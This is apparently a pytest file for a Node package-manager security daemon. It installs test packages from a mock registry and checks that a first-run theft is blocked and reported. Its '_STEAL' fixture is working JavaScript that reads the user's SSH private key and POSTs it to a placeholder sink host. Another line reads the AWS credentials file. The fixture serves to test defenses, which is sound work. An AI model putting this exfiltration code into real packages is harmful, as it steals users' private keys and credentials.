"""The first run of what each further manager of Node packages installed, in each of its layouts."""

import shutil
import signal
from collections.abc import Sequence

import pytest

import node_house
from lab.daemon import Daemon, as_user, hand_to_user
from lab.demands import demand
from lab.guard import Outcome
from lab.packages import filled
from lab.registry import Registry
from lab.world import World
from node_yard import LAYOUTS

pytestmark = [pytest.mark.root, pytest.mark.timeout(120, method="thread")]

_THIEF = "pkg:npm/light-fingers@1.0.0"
_STEAL = """
const fs = require('fs'), os = require('os'), http = require('http')
let loot = 'nothing'
try { loot = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519') } catch (error) {}
const told = http.request({ host: '@SINK@', port: 8080, method: 'POST', path: '/log', timeout: 3000 })
for (const end of ['error', 'timeout', 'response']) told.on(end, () => process.exit(0))
told.end(loot)
console.log('went on')
"""
_SDK = "pkg:npm/aws-sdk@2.0.0"
_READ = "console.log(require('fs').readFileSync(require('os').homedir() + '/.aws/credentials').length > 0)\n"


class _User:
    """The made-up user, with one manager and a registry that has a thief, an honest package and a cloud SDK."""

    def __init__(self, name: str, world: World, registry: Registry) -> None:
        self.layout, self.world, self.mine = LAYOUTS[name], world, world.project
        held = world.environment()
        self.environment = {
            **node_house.environment(self.layout.manager, world.folder, registry.url),
            **{key: held[key] for key in ("HOME", "TMPDIR")},
        }
        (self.mine / ".npmrc").write_text(f"registry={registry.url}\n")
        for file, content in self.layout.settings.items():
            (self.mine / file).write_text(content)
        steal = filled(_STEAL.encode(), world.words()).decode()
        shim = {"cli.js": f"#!/usr/bin/env node\n{steal}"}
        thief = {"name": "light-fingers", "version": "1.0.0", "bin": {"light-fingers": "cli.js"}}
        registry.add(thief, {"index.js": steal, **shim})
        registry.add(
            {"name": "clean-hands", "version": "1.0.0"}, {"index.js": "console.log('at your service')\n"}
        )
        registry.add({"name": "aws-sdk", "version": "2.0.0"}, {"index.js": _READ})
        hand_to_user(world)

    def does(self, command: Sequence[str]) -> Outcome:
        """As that user, in the project."""
        return as_user(self.world, command, self.environment, self.mine)

    def require(self, package: str) -> Outcome:
        """What a program of the user's does."""
        loader = ["-r", "./.pnp.cjs"] if (self.mine / ".pnp.cjs").exists() else []
        return self.does([str(shutil.which("node")), *loader, "-e", f"require('{package}')"])

    def shim(self) -> Outcome | None:
        """The thief by its program; None where there is no `.bin`."""
        shim = self.mine / "node_modules" / ".bin" / "light-fingers"
        return self.does([str(shim)]) if shim.exists() else None


@pytest.mark.parametrize("name", [name for name in LAYOUTS if name != "npm"])
def test_a_first_run_is_watched(guard: None, lab: None, name: str) -> None:
    """A theft by `require` or the shim is refused and named; honest code and an SDK go on. Unguarded it is real."""
    demand(None if LAYOUTS[name].program else f"{name} could not be fetched once")
    with World([]) as world, Registry() as registry:
        user = _User(name, world, registry)
        with Daemon(world) as daemon:
            done = user.does(
                [str(user.layout.program), *user.layout.add, "light-fingers", "clean-hands", "aws-sdk"]
            )
            assert done.status == 0, done.out + done.err
            daemon.settled()
            runs = [user.require("light-fingers"), user.shim()]
            assert {run.out for run in runs if run} == {"went on\n"}, daemon.log
            assert user.require("clean-hands").out == "at your service\n"
            assert user.require("aws-sdk").out == "true\n", daemon.log
            thefts = len([run for run in runs if run])
            ended = daemon.settled(3 + thefts)
            assert [run["verdict"] for run in ended[-1 - thefts :]] == [*["blocked"] * thefts, "clean"], ended
            found = daemon.report(ended[-2]["id"])["findings"]
            assert {(each["package"], each["stage"]) for each in found} == {(_THIEF, "first-run")}, daemon.log
            assert {each["identity"] for each in found} == {"verified"}
            assert world.leaks() == []
            daemon.end(signal.SIGINT)
            user.require("light-fingers")
        assert world.leaks() != []
